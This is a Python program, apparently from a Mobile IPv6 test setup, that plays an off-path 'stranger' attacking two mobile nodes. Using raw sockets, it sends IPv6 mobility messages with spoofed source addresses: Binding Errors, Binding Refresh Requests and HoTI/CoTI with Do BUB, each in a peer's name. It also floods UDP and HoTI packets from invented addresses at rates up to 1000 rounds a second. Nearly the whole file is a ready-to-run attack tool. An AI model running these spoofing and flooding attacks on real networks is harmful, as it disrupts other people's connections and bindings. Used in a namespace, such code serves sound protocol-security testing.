# SPDX-License-Identifier: BSD-2-Clause
"""A stranger: a host somewhere in the internet, off every path, that knows two home addresses and
the addresses of their home agents, and sends what anybody could send with somebody else's source
address.

Run as a program inside a namespace, it goes on until it is stopped, and then prints as JSON how
many packets and octets it has sent and received.
"""

from __future__ import annotations

import argparse
import dataclasses
import ipaddress
import json
import os
import random
import select
import signal
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator

NO_NEXT_HEADER, MH, UDP = 59, 135, 17
BRR, HOTI, COTI, BINDING_ERROR = 0, 1, 2, 7
BUB_OPTION, DO_BUB = 18, 0
MN_IDENTIFIER, IPV6_ADDRESS = 8, 2  # RFC 4283; RFC 8371
UNKNOWN_BINDING, UNKNOWN_MH_TYPE = 1, 2
UDP_PORT = 42009  # that capture tools know nothing of
ANYBODY = ipaddress.ip_network("2001:db8:f000::/36")  # whose addresses nobody has


@dataclasses.dataclass(frozen=True)
class Victims:
    """What the stranger knows: home addresses of the pair, and his own."""

    one: str
    two: str
    own: str

    def both_ways(self) -> Iterator[tuple[str, str]]:
        yield self.one, self.two
        yield self.two, self.one


def checksum(source: str, target: str, protocol: int, payload: bytes) -> int:
    """Of an upper-layer packet in IPv6 (RFC 8200, 8.1)."""
    octets = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
    octets += struct.pack("!II", len(payload), protocol) + payload + b"\0" * (len(payload) % 2)
    total = sum(struct.unpack(f"!{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ipv6(source: str, target: str, protocol: int, payload: bytes) -> bytes:
    head = struct.pack("!IHBB", 6 << 28, len(payload), protocol, 64)
    ends = socket.inet_pton(socket.AF_INET6, source) + socket.inet_pton(socket.AF_INET6, target)
    return head + ends + payload


def padded(message: bytes) -> bytes:
    """To a multiple of eight octets, by Pad1 or PadN (RFC 6275, 6.2.2 and 6.2.3)."""
    lack = -len(message) % 8
    if lack == 0:
        return message
    return message + (b"\0" if lack == 1 else bytes([1, lack - 2]) + bytes(lack - 2))


def mobility(source: str, target: str, kind: int, data: bytes) -> bytes:
    """A packet with one mobility message; @data follows the checksum."""
    body = padded(bytes(6) + data)[6:]
    message = struct.pack("!BBBBH", NO_NEXT_HEADER, (6 + len(body)) // 8 - 1, kind, 0, 0) + body
    total = checksum(source, target, MH, message)
    return ipv6(source, target, MH, message[:4] + struct.pack("!H", total) + message[6:])


def binding_error(status: int) -> Callable[[Victims], Iterator[bytes]]:
    def packets(victims: Victims) -> Iterator[bytes]:
        for source, target in victims.both_ways():
            home = target if status == UNKNOWN_BINDING else "::"
            data = bytes([status, 0]) + socket.inet_pton(socket.AF_INET6, home)
            yield mobility(source, target, BINDING_ERROR, data)

    return packets


def refresh_request(victims: Victims) -> Iterator[bytes]:
    for source, target in victims.both_ways():
        yield mobility(source, target, BRR, bytes(2))


def do_bub_home(victims: Victims) -> Iterator[bytes]:
    for source, target in victims.both_ways():
        data = bytes(2) + os.urandom(8) + bytes([BUB_OPTION, 1, DO_BUB])
        yield mobility(source, target, HOTI, data)


def do_bub_care_of(victims: Victims) -> Iterator[bytes]:
    """CoTI from the stranger's own address that names the peer."""
    for named, target in victims.both_ways():
        data = bytes(2) + os.urandom(8) + bytes([BUB_OPTION, 1, DO_BUB])
        data += bytes([MN_IDENTIFIER, 17, IPV6_ADDRESS])
        data += socket.inet_pton(socket.AF_INET6, named)
        yield mobility(victims.own, target, COTI, data)


def both_inits(victims: Victims) -> Iterator[bytes]:
    yield from do_bub_home(victims)
    yield from do_bub_care_of(victims)


def made_up_address() -> str:
    return str(ANYBODY[random.getrandbits(128 - ANYBODY.prefixlen)])


def made_up_data(victims: Victims) -> Iterator[bytes]:
    for target in (victims.one, victims.two):
        source = made_up_address()
        datagram = struct.pack("!HHHH", UDP_PORT, UDP_PORT, 8 + 16, 0) + bytes(16)
        total = checksum(source, target, UDP, datagram) or 0xFFFF
        yield ipv6(source, target, UDP, datagram[:6] + struct.pack("!H", total) + datagram[8:])


def made_up_tests(victims: Victims) -> Iterator[bytes]:
    for target in (victims.one, victims.two):
        yield mobility(made_up_address(), target, HOTI, bytes(2) + os.urandom(8))


def everything_unsigned(victims: Victims) -> Iterator[bytes]:
    for packets in (
        binding_error(UNKNOWN_BINDING), binding_error(UNKNOWN_MH_TYPE), refresh_request, both_inits,
        made_up_data, made_up_tests,
    ):
        yield from packets(victims)


@dataclasses.dataclass(frozen=True)
class Attack:
    summary: str
    packets: Callable[[Victims], Iterator[bytes]]  # one round
    rounds_per_s: float


ATTACKS = {
    "binding-error-1": Attack(
        "Binding Errors, status 1, in the peer's name", binding_error(UNKNOWN_BINDING), 10
    ),
    "binding-error-2": Attack(
        "Binding Errors, status 2, in the peer's name", binding_error(UNKNOWN_MH_TYPE), 20
    ),
    "refresh-request": Attack("Binding Refresh Requests in the peer's name", refresh_request, 20),
    "do-bub": Attack("HoTI with Do BUB in the peer's name", do_bub_home, 20),
    "glare": Attack("CoTI with Do BUB that names the peer", do_bub_care_of, 20),
    "both-inits": Attack("HoTI and CoTI with Do BUB", both_inits, 20),
    "everything": Attack("one of each of these", everything_unsigned, 20),
    "made-up-data": Attack("data from addresses that nobody has", made_up_data, 500),
    "made-up-tests": Attack("HoTI from addresses that nobody has", made_up_tests, 1000),
}


class Stranger:
    def __init__(self, victims: Victims, attack: Attack) -> None:
        self.victims = victims
        self.attack = attack
        self.running = True
        self.count = dict.fromkeys(
            ("sent_packets", "sent_octets", "received_packets", "received_octets"), 0
        )
        # IPPROTO_RAW: the header is the program's own, with any source address.
        self.out = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.inn = socket.socket(socket.AF_INET6, socket.SOCK_RAW, MH)
        self.inn.setblocking(False)

    def stop(self, *_signal: object) -> None:
        self.running = False

    def send_round(self) -> None:
        for packet in self.attack.packets(self.victims):
            target = socket.inet_ntop(socket.AF_INET6, packet[24:40])
            try:
                self.out.sendto(packet, (target, 0))
            except OSError:
                continue
            self.count["sent_packets"] += 1
            self.count["sent_octets"] += len(packet)

    def hear(self) -> None:
        while True:
            try:
                message = self.inn.recv(2048)
            except (BlockingIOError, InterruptedError):
                return
            self.count["received_packets"] += 1
            self.count["received_octets"] += 40 + len(message)

    def run(self) -> None:
        start, rounds = time.monotonic(), 0
        while self.running:
            due = int((time.monotonic() - start) * self.attack.rounds_per_s)
            while rounds < due and self.running:
                self.send_round()
                rounds += 1
            self.hear()
            wait = start + (rounds + 1) / self.attack.rounds_per_s - time.monotonic()
            select.select([self.inn], [], [], max(0.001, min(wait, 0.1)))


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--victims", nargs=2, required=True, metavar="HOME-ADDRESS")
    parser.add_argument("--own", required=True, metavar="ADDRESS")
    args = parser.parse_args()
    stranger = Stranger(Victims(*args.victims, args.own), ATTACKS[args.attack])
    signal.signal(signal.SIGTERM, stranger.stop)
    stranger.run()
    print(json.dumps(stranger.count))
    return 0


if __name__ == "__main__":
    sys.exit(main())
